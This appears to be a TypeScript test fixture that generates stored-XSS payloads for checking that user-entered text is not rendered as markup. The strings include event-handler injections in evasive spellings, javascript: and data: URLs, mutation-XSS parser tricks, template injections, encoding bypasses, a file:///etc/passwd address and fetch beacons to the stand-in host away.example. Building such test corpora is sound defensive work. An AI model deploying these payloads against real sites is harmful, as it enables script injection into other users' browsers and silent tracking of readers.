/**
 * The stored mark-up set of H20: what a person could type hoping that some screen, mail or page takes it for more than text.
 * Each calls `diwanRan()` or fetches from `away.example`, so a browser can tell that one worked. All are single lines without
 * controls, short enough for a name, and stay as they are wherever people write.
 */
const RUN = 'diwanRan()'
export const AWAY = 'https://away.example/'

/** Elements that can start something by themselves or at the first touch, up to the place of the handler's value. */
const starters = [
  'img src=x onerror',
  'img srcset=x onerror',
  'svg onload',
  'body onload',
  'body onpageshow',
  'video src=x onerror',
  'audio src=x onerror',
  'video><source onerror',
  'details open ontoggle',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'b tabindex=1 autofocus onfocus',
  'b contenteditable oninput',
  'b style=animation:x onanimationstart',
  'iframe onload',
  'object data=x onerror',
  'embed src=x onload',
  'script src=x onerror',
  'link rel=stylesheet href=x onerror',
  'style onload',
  'a onpointerover',
  'marquee onstart',
  'math href=x onclick',
]

/** The same handler in the spellings that lists of forbidden words forget. */
const spellings: readonly ((starter: string) => string)[] = [
  (starter) => `<${starter}=${RUN}>`,
  (starter) => `<${starter.toUpperCase()}="${RUN}">`,
  (starter) => `<${starter.replaceAll(' ', '/')}=${RUN} //`,
  (starter) => `"'><${starter}='${RUN}' x="`,
  (starter) => `<${starter}=&#100;iwanRan&lpar;&rpar;>`,
  (starter) => `&lt;${starter}=${RUN}&gt;`,
]

/** Addresses that are programs, or that lead elsewhere than they say. */
export const hostileAddresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript://a.example/%0a${RUN}`,
  `java&#115;cript:${RUN}`,
  `&#x6a;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `feed:javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5kaXdhblJhbigpPC9zY3JpcHQ+',
  `data:image/svg+xml,<svg onload='${RUN}'/>`,
  'blob:https://away.example/0',
  'filesystem:https://away.example/temporary/x',
  'file:///etc/passwd',
  '//away.example/x',
  String.raw`\\away.example\x`,
  String.raw`/\away.example`,
  'http:away.example',
]

const holders: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}" autofocus>x</a>`,
  (address) => `[x](${address})`,
]

/** Scripts outright, and those a parser makes of what looked like something else (mXSS). */
const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}//`,
  `<script type=module>${RUN}</script>`,
  `<script src=${AWAY}s.js></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><style><img title="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<xmp><p title="</xmp><svg onload=${RUN}>">`,
  `<svg><script>&#100;iwanRan&#40;)</script>`,
  `<svg><script href="data:,${RUN}"/>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><set attributeName=href to=javascript:${RUN} /><text y=9>x`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x">`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${RUN}>x`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;">`,
  `<object data="data:text/html,<script>parent.${RUN}</script>">`,
]

/** What fetches without any script, and so tells somebody elsewhere who read it. */
const fetchers = [
  `<img src=${AWAY}p>`,
  `<img srcset="${AWAY}p 1x">`,
  `<svg><image href=${AWAY}p>`,
  `<picture><source srcset=${AWAY}p><img>`,
  `<video poster=${AWAY}p>`,
  `<audio src=${AWAY}p autoplay>`,
  `<input type=image src=${AWAY}p>`,
  `<link rel=stylesheet href=${AWAY}p>`,
  `<link rel=prefetch href=${AWAY}p>`,
  `<table background=${AWAY}p>`,
  `<iframe src=${AWAY}p>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}p">`,
  `<base href=${AWAY}>`,
  `<form action=${AWAY}p><button autofocus>x`,
  `<style>@import '${AWAY}p'</style>`,
  `<p style="background:url(${AWAY}p)">x</p>`,
  `<p style="position:fixed;inset:0">x</p>`,
  `</style><style>*{background:url(${AWAY}p)}`,
  `![x](${AWAY}p.png)`,
  `url(${AWAY}p)`,
]

/** Other languages that read text: templates, replacements, escapes that somebody undoes twice, unusual letters. */
const readers = [
  `{{constructor.constructor('${RUN}')()}}`,
  '{{shortId}} {{subject}} {{actor}}',
  '{name} {department}',
  '$t(cancel) $t(kit:cancel)',
  `\${${RUN}}`,
  `#{${RUN}} <%= ${RUN} %>`,
  "$& $` $' $1 $$",
  '%environment% %lang% %themeColor%',
  '<!--preloads-->',
  String.raw`\u003cimg src=x onerror=${RUN}\u003e`,
  String.raw`\x3cscript\x3e${RUN}\x3c/script\x3e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `<ſcript>${RUN}</ſcript>`,
  `<ımg src=x onerror=${RUN}>`,
  `<img src=x onerror=${RUN}\u{E003E}`,
  `مرحبًا <b onclick=${RUN}>اضغط هنا</b>`,
  `«<سكربت onload=${RUN}>»`,
  '__proto__',
  `"}],"x":"<script>${RUN}</script>`,
]

export const hostileTexts: readonly string[] = [
  ...starters.flatMap((starter) => spellings.map((spell) => spell(starter))),
  ...hostileAddresses.flatMap((address) => holders.map((hold) => hold(address))),
  ...scripts,
  ...fetchers,
  ...readers,
]
